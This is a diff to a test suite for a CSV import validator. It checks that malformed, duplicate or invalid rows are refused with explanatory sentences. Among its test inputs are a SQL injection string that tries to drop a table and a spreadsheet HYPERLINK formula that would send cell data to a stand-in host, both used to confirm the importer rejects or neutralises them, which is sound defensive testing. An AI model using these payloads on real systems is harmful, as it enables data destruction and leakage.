@@ -85,6 +85,30 @@ describe('a file of these is refused with a sentence, and the file beside it is 
     ['a header of 5,000 columns', 'a.csv', `${many}\n`, /^This row has more than 2,000 cells\.$/],
     ['a row of 5,000 cells', 'a.csv', `${header}\n${'x,'.repeat(5_000)}\n`, /^This row has more than 2,000 cells\.$/],
     ['a table of something else', 'a.csv', 'PK,colour\n1,blue\n', /^a table with the columns PK, colour$/],
+    [
+      'one of our own tables with two columns of one name, differently written',
+      'a.csv',
+      'missing_episode_id,person_id,went_missing_at,Went Missing At\nM1,1,01/02/2016,02/02/2016\n',
+      /^two columns of this name$/,
+    ],
+    [
+      'one of our own tables whose columns fit two of them equally',
+      'a.csv',
+      'referral_id,received_on,closed_on,assessment_id,started_on\nR1,01/02/2016,,S1,01/02/2016\n',
+      /^(referral_id, assessment_id|assessment_id, referral_id)$/,
+    ],
+    [
+      'one of our own tables that says whom it is about and nothing else',
+      'a.csv',
+      'referral_id,person_id\nR1,1\n',
+      /^referral_id, person_id$/,
+    ],
+    [
+      'one of our own tables with a quote that never closes',
+      'a.csv',
+      'referral_id,received_on\nR1,"01/02/2016\nR2,',
+      /opens a cell here and is never closed/,
+    ],
     ['a book without line breaks', 'a.txt', 'words without end '.repeat(40_000), /^a table with the columns words without end/],
   ]
 
@@ -277,6 +301,59 @@ describe('brought in to a database', () => {
     expect(saved).toContain(`"'=HYPERLINK(""https://harm.example/?""&A1,""Open"")"`)
     expect(saved).toContain(`'@SUM(A1)`)
     expect(saved).not.toMatch(/(^|,)"?[=@]/m)
+  })
+
+  test('rows of our own tables that cannot stand are refused with their line, and the others come in', async () => {
+    const { database } = await freshForOneTest('embedded')
+    const row = (id: string, more: Record<string, string> = {}) => ({
+      missing_episode_id: id,
+      person_id: '1',
+      went_missing_at: '01/02/2016 21:15',
+      type: 'M',
+      returned_at: '',
+      ...more,
+    })
+    const { files } = await bring(database, {
+      'ssd_person.csv': good,
+      'mine.csv': csv([
+        row('M1'),
+        row('M2', { went_missing_at: '02/03/2016' }),
+        row('M3', { type: 'Q' }),
+        row('M4', { went_missing_at: '01/01/2015' }),
+        row('M4', { went_missing_at: '01/01/2014' }),
+        row('M5', { person_id: '9' }),
+        row('M6', { person_id: '' }),
+        row('', { went_missing_at: '01/01/2013' }),
+        row('M8', { returned_at: '31/01/2016' }),
+        row('M9', { went_missing_at: "'; drop table person; --" }),
+        row("M'10", { went_missing_at: '01/01/2012', type: 'm' }),
+      ]),
+      'more.csv': 'missing_episode_id,type,\nM1,A,one cell too many,and another\n',
+    })
+    const own = files.filter(({ format }) => format === 'Goldthread CSV')
+    for (const file of own) expectSentences(file as unknown as Told)
+    expect(own.map(({ path, added }) => [path, added])).toEqual([
+      ['mine.csv', 2],
+      ['more.csv', 0],
+    ])
+    expect(own.flatMap(({ refused }) => refused.map(({ line, field, why }) => `${line} ${field}: ${why}`))).toEqual([
+      '3 went_missing_at: 02/03/2016 is not a date this field may have.',
+      '4 type: Q is not in the list "Missing or away".',
+      '5 null: Lines 5 and 6 say different things of the same record, and nothing tells which is right.',
+      '6 null: Lines 5 and 6 say different things of the same record, and nothing tells which is right.',
+      '7 identifier: There is no person with this identifier here or in these files, or the row that would have brought it in was refused.',
+      '8 whom it is about: It does not say whom it is about.',
+      '9 identifier: It has no identifier of its own.',
+      '10 returned_at: It ends before it begins.',
+      "11 went_missing_at: '; drop table person; -- is not a date this field may have.",
+      '2 null: The row has more cells than the header names, so nothing tells which is which.',
+    ])
+    expect(
+      await database.transaction(acting('reads'), (tx) => tx.query('select source_id as id, type from missing_episode order by 1')),
+    ).toEqual([
+      { id: "M'10", type: 'M' },
+      { id: 'M1', type: 'M' },
+    ])
   })
 
   test('values a database cannot hold are refused with their row, and the import goes on', async () => {
